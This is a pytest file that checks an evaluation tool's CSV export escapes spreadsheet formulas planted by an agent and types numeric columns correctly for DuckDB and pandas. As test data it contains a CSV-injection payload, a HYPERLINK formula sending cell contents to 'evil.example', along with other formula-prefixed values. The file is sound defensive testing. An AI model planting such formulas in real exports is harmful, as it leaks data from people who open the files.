"""``evalrun export --format csv`` read by its readers: a spreadsheet sees no formula an agent
planted (OWASP's CSV-injection advice), and DuckDB and pandas type the numeric columns as
numbers even when every value is unknown."""

from __future__ import annotations

import csv
import io
import math
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from cli_helpers import evalrun, run_pytest
from conftest import Suite

from pytest_evalrun.store.query import TRIAL_FIELDS

duckdb = pytest.importorskip("duckdb", reason="duckdb is in the test extra: pip install -e .[test]")
pandas = pytest.importorskip("pandas", reason="pandas is in the test extra: pip install -e .[test]")

#: The columns docs/cli.md says are numbers, and True/False.
NUMERIC_FIELDS = {"trial", "reward", "duration", "setup_duration", "agent_duration",
                  "verify_duration", "input_tokens", "output_tokens", "cache_tokens", "cost_usd",
                  "seed"}  # fmt: skip
BOOLEAN_FIELDS = {"resumed", "crashed"}
#: OWASP: a cell starting with one of these is a formula to some spreadsheet.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: The agent reports a formula as its model, and no tokens and no cost.
AGENT = r"""
import json, os, pathlib
pathlib.Path("answer.txt").write_text("ok\n")
model = '=HYPERLINK("https://evil.example/x?c="&A1,"details")'
if "SUM" in os.environ["EVALRUN_TASK"]:
    model = "\t=2+2"
pathlib.Path(os.environ["EVALRUN_ARTIFACTS_DIR"], "metrics.json").write_text(
    json.dumps({"model": model}))
"""
#: A verifier that gives a negative reward: a numeric column keeps its minus sign.
NEGATIVE = 'echo -0.5 > "$EVALRUN_VERIFIER_DIR/reward.txt"'


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export")
    suite = Suite(SimpleNamespace(path=path))  # type: ignore[arg-type]
    agent = suite.write("formula_agent.py", AGENT)
    suite.experiment(
        variants={"+plus": {}, "-minus": {}},
        defaults={"agent": {"command": [sys.executable, str(agent)]}},
        tasks=[
            {"name": "=1+1", "prompt": "p", "fixture": "fixtures/basic", "verify": "true"},
            {"name": "@SUM(1)", "prompt": "p", "fixture": "fixtures/basic", "verify": NEGATIVE},
        ],
    )  # fmt: skip
    r = run_pytest(path, "--eval-run-id", "r1")
    assert r.returncode == 1, r.stdout[-3000:]
    return path


def export_csv(root: Path, tmp_path: Path) -> Path:
    out = tmp_path / "trials.csv"
    r = evalrun("export", "r1", "--format", "csv", "-o", str(out), cwd=root)
    assert r.returncode == 0, r.stderr
    return out


def test_no_text_cell_starts_like_a_formula_and_numbers_stay_numbers(
    root: Path, tmp_path: Path
) -> None:
    rows = list(csv.reader(io.StringIO(export_csv(root, tmp_path).read_text())))
    assert tuple(rows[0]) == TRIAL_FIELDS and len(rows) == 5
    data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    for row in data:
        for field, cell in row.items():
            if field not in NUMERIC_FIELDS:
                assert not cell.startswith(FORMULA_START), (field, cell)
    models = {row["model"] for row in data}
    assert models == {"'=HYPERLINK(\"https://evil.example/x?c=\"&A1,\"details\")", "'\t=2+2"}
    assert {row["variant_name"] for row in data} == {"'+plus", "'-minus"}
    assert {row["task_name"] for row in data} == {"'=1+1", "'@SUM(1)"}
    # a numeric column keeps its sign; nothing is added to a number
    assert sorted(row["reward"] for row in data) == ["-0.5", "-0.5", "1.0", "1.0"]


def test_duckdb_and_pandas_read_numbers_when_every_cost_is_unknown(
    root: Path, tmp_path: Path
) -> None:
    path = export_csv(root, tmp_path)
    con = duckdb.connect()
    rel = con.sql(f"SELECT * FROM read_csv('{path}')")
    types = dict(zip(rel.columns, (str(t) for t in rel.types), strict=True))
    for field in NUMERIC_FIELDS:
        assert types[field] in ("BIGINT", "DOUBLE"), (field, types[field])
    for field in BOOLEAN_FIELDS:
        assert types[field] == "BOOLEAN", (field, types[field])
    assert types["model"] == types["message"] == "VARCHAR"
    ((cost, tokens, reward, n),) = con.sql(
        f"SELECT sum(cost_usd), sum(input_tokens), sum(reward), count(*) FROM read_csv('{path}')"
    ).fetchall()
    assert n == 4 and reward == pytest.approx(1.0)  # 1 + 1 - 0.5 - 0.5
    assert cost is None or math.isnan(cost)  # unknown, not 0
    assert tokens is None or math.isnan(tokens)

    frame = pandas.read_csv(path)
    for field in NUMERIC_FIELDS:
        assert pandas.api.types.is_numeric_dtype(frame[field]), (field, frame[field].dtype)
    assert frame["cost_usd"].isna().all() and frame["reward"].sum() == pytest.approx(1.0)
    assert frame["resumed"].dtype == bool
